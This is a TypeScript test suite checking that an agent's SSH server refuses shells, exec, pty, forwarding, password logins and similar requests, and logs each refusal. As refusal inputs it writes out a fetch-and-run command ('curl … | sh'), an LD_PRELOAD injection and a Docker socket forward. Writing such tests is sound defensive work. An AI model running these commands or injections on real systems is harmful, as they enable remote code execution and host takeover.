import { rmSync } from 'node:fs';
import { BaseAgent, type Client } from 'ssh2';
import { expect } from 'chai';
import type { SshRefusal } from '../src/ssh/refusals';
import {
  capturingLogger,
  connect,
  connectAs,
  getJson,
  makeControllerKey,
  openProtocol,
  outcome,
  refusedCounts,
  signedStatusGet,
  startSshAgent,
  tempDataDir,
  verifyReply,
  type SshTestAgent,
} from './ssh-support';

/** An ssh-agent the client would forward; it is never used, because the forwarding request is refused. */
class UnusedAgent extends BaseAgent<Buffer> {
  getIdentities(cb: (error: Error | undefined, keys?: Buffer[]) => void): void {
    cb(undefined, []);
  }
  sign(_key: Buffer, _data: Buffer, ...rest: unknown[]): void {
    const cb = rest.find((arg): arg is (error: Error) => void => typeof arg === 'function');
    cb?.(new Error('this agent signs nothing'));
  }
}

/**
 * The no-remote-shell gate (DESIGN.md invariant 6). A client holding the
 * valid controller key tries every way SSH offers to run something, get a
 * terminal, reach the network or the agent socket through the node. Each must
 * be refused, and each refusal must show up in the counter, in /health and in
 * the log.
 */
describe('agent SSH server: no remote shell', function () {
  this.timeout(20_000);
  const controller = makeControllerKey('controller-1');
  const stranger = makeControllerKey('stranger');
  const captured = capturingLogger();
  let dataDir: string;
  let agent: SshTestAgent;
  let client: Client;

  before(async () => {
    dataDir = tempDataDir();
    agent = await startSshAgent(dataDir, [controller], { logger: captured.logger });
    client = await connectAs(agent, controller);
  });
  after(async () => {
    client.end();
    await agent.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  async function refusals(): Promise<SshRefusal[]> {
    return (await getJson(`${agent.url}/health`))['sshRefusals'] as SshRefusal[];
  }

  /**
   * Runs `attempt`, expects it to fail, and expects exactly `requests` to have
   * been reported: counter +1 each, newest /health entries, one warn log line each.
   */
  async function expectRefused(
    attempt: () => Promise<Error | null>,
    requests: readonly string[],
    check: (entries: SshRefusal[]) => void = () => undefined,
  ): Promise<void> {
    const before = await refusedCounts(agent);
    const ringBefore = (await refusals()).length;
    const logBefore = captured.lines().length;
    const error = await attempt();
    expect(error, 'the request must fail on the client').to.be.instanceOf(Error);
    const after = await refusedCounts(agent);
    for (const request of new Set(requests)) {
      const times = requests.filter((r) => r === request).length;
      expect(after[request], `lunanexa_agent_ssh_refused_total{request="${request}"}`).to.equal(
        (before[request] ?? 0) + times,
      );
    }
    const changed = Object.keys(after).filter((key) => after[key] !== before[key]);
    expect(changed.sort(), 'no other counter moved').to.deep.equal([...new Set(requests)].sort());
    const ring = await refusals();
    const added = ring.slice(Math.min(ringBefore, ring.length - requests.length));
    expect(added.map((entry) => entry.request)).to.deep.equal([...requests]);
    for (const entry of added) {
      expect(entry.remoteAddress).to.match(/^127\.0\.0\.1:\d+$/);
      expect(Number.isNaN(Date.parse(entry.at))).to.equal(false);
    }
    const logged = captured
      .lines()
      .slice(logBefore)
      .filter((line) => line['event'] === 'ssh_request_refused');
    expect(logged.map((line) => line['request'])).to.deep.equal([...requests]);
    expect(logged.every((line) => line['level'] === 'warn')).to.equal(true);
    check(added);
  }

  it('lets the controller key open the protocol subsystem (the one thing that works)', async () => {
    const stream = await openProtocol(client);
    stream.send(signedStatusGet(controller));
    const report = verifyReply(agent, await stream.next(), 'status.report');
    expect(report.body.assignments).to.deep.equal([]);
    stream.channel.close();
  });

  it('refuses a shell', async () => {
    await expectRefused(
      () => outcome((done) => client.shell(false, (error) => done(error))),
      ['shell'],
      ([entry]) => {
        expect(entry?.keyId).to.equal('controller-1');
      },
    );
  });

  it('refuses exec ("id") and records neither the command text nor its output', async () => {
    await expectRefused(
      () => outcome((done) => client.exec('id', (error) => done(error))),
      ['exec'],
      ([entry]) => {
        expect(entry?.detail).to.equal('command of 2 bytes');
      },
    );
    const hostileCommand = 'curl -s http://198.51.100.7/x.sh | sh';
    await expectRefused(
      () => outcome((done) => client.exec(hostileCommand, (error) => done(error))),
      ['exec'],
    );
    expect(JSON.stringify(await refusals())).to.not.contain('curl');
    expect(JSON.stringify(captured.lines())).to.not.contain('curl');
  });

  it('refuses a pty (and so never gets to the shell behind it)', async () => {
    await expectRefused(
      () =>
        outcome((done) =>
          client.shell({ term: 'xterm-256color', rows: 24, cols: 80 }, (error) => done(error)),
        ),
      ['pty'],
      ([entry]) => expect(entry?.detail).to.equal('xterm-256color'),
    );
  });

  it('refuses env (sent without want-reply) and the exec after it', async () => {
    await expectRefused(
      () =>
        outcome((done) => client.exec('id', { env: { LD_PRELOAD: '/tmp/x.so' } }, (error) => done(error))),
      ['env', 'exec'],
      ([env]) => expect(env?.detail).to.equal('LD_PRELOAD'),
    );
  });

  it('refuses X11 forwarding', async () => {
    await expectRefused(
      () => outcome((done) => client.exec('id', { x11: true }, (error) => done(error))),
      ['x11'],
    );
  });

  it('refuses agent forwarding', async () => {
    const forwarding = await connect(agent, {
      privateKey: controller.sshPrivateKey,
      authHandler: ['publickey'],
      agent: new UnusedAgent(),
      agentForward: true,
    });
    try {
      await expectRefused(
        // With agentForward in the connect config, ssh2 asks for forwarding before every exec.
        () => outcome((done) => forwarding.exec('id', (error) => done(error))),
        ['auth-agent'],
      );
    } finally {
      forwarding.end();
    }
  });

  it('refuses local forwarding (direct-tcpip), even to the agent itself', async () => {
    await expectRefused(
      () =>
        outcome((done) =>
          client.forwardOut('127.0.0.1', 40000, '127.0.0.1', agent.address.port, (error) => done(error)),
        ),
      ['direct-tcpip'],
      ([entry]) => expect(entry?.detail).to.equal(`127.0.0.1:${agent.address.port}`),
    );
  });

  it('refuses remote forwarding (tcpip-forward)', async () => {
    await expectRefused(
      () => outcome((done) => client.forwardIn('127.0.0.1', 0, (error) => done(error))),
      ['tcpip-forward'],
      ([entry]) => expect(entry?.detail).to.equal('127.0.0.1:0'),
    );
  });

  it('refuses unix-socket forwarding in both directions (streamlocal)', async () => {
    await expectRefused(
      () =>
        outcome((done) => client.openssh_forwardOutStreamLocal('/run/docker.sock', (error) => done(error))),
      ['streamlocal'],
      ([entry]) => expect(entry?.detail).to.equal('/run/docker.sock'),
    );
    await expectRefused(
      () =>
        outcome((done) =>
          client.openssh_forwardInStreamLocal('/tmp/lunanexa-fwd.sock', (error) => done(error)),
        ),
      ['streamlocal'],
    );
  });

  for (const name of ['sftp', 'lunanexa-agent-v2', 'shell', 'x'.repeat(300)]) {
    it(`refuses the subsystem ${name.length > 40 ? `${name.slice(0, 8)}… (${name.length} chars)` : name}`, async () => {
      await expectRefused(
        () => outcome((done) => client.subsys(name, (error) => done(error))),
        ['subsystem'],
        ([entry]) => {
          expect(entry?.detail?.length).to.be.at.most(129);
          expect(name.startsWith(entry?.detail?.replace('…', '') ?? '!')).to.equal(true);
        },
      );
    });
  }

  it('refuses a client with a key that is not authorized, and reports it', async () => {
    await expectRefused(
      async () => {
        try {
          await connectAs(agent, stranger);
          return null;
        } catch (error: unknown) {
          expect((error as Error & { level?: string }).level).to.equal('client-authentication');
          return error as Error;
        }
      },
      ['auth-publickey'],
      ([entry]) => {
        expect(entry?.keyId).to.equal(null);
        expect(entry?.detail).to.match(/^ssh-ed25519 SHA256:/);
      },
    );
  });

  for (const [method, config, request] of [
    ['password', { password: 'hunter2-hunter2', authHandler: ['password'] }, 'auth-password'],
    [
      'keyboard-interactive',
      { tryKeyboard: true, authHandler: ['keyboard-interactive'] },
      'auth-keyboard-interactive',
    ],
  ] as const) {
    it(`refuses ${method} authentication, and reports it`, async () => {
      await expectRefused(async () => {
        try {
          await connect(agent, { ...config, authHandler: [...config.authHandler] });
          return null;
        } catch (error: unknown) {
          return error as Error;
        }
      }, [request]);
      expect(JSON.stringify(captured.lines())).to.not.contain('hunter2');
    });
  }

  it('refuses "none" authentication without reporting it (every client probes with it)', async () => {
    const before = await refusedCounts(agent);
    let failure: unknown = null;
    try {
      await connect(agent, { authHandler: ['none'] });
    } catch (error: unknown) {
      failure = error;
    }
    expect((failure as Error & { level?: string }).level).to.equal('client-authentication');
    expect(await refusedCounts(agent)).to.deep.equal(before);
  });

  it('exports every refusal label from the start and keeps the ring bounded', async () => {
    const counts = await refusedCounts(agent);
    expect(Object.keys(counts).sort()).to.deep.equal(
      [
        'auth-agent',
        'auth-hostbased',
        'auth-keyboard-interactive',
        'auth-password',
        'auth-publickey',
        'direct-tcpip',
        'env',
        'exec',
        'pty',
        'shell',
        'signal',
        'streamlocal',
        'subsystem',
        'tcpip-forward',
        'window-change',
        'x11',
      ].sort(),
    );
    // A refused subsystem leaves its session open, so spread 60 attempts over connections (16 sessions each).
    for (let round = 0; round < 4; round += 1) {
      const extra = await connectAs(agent, controller);
      for (let i = 0; i < 15; i += 1) await outcome((done) => extra.subsys('nope', (error) => done(error)));
      extra.end();
    }
    const ring = await refusals();
    expect(ring).to.have.length(50);
    expect(ring.every((entry) => entry.request === 'subsystem' && entry.detail === 'nope')).to.equal(true);
  });
});
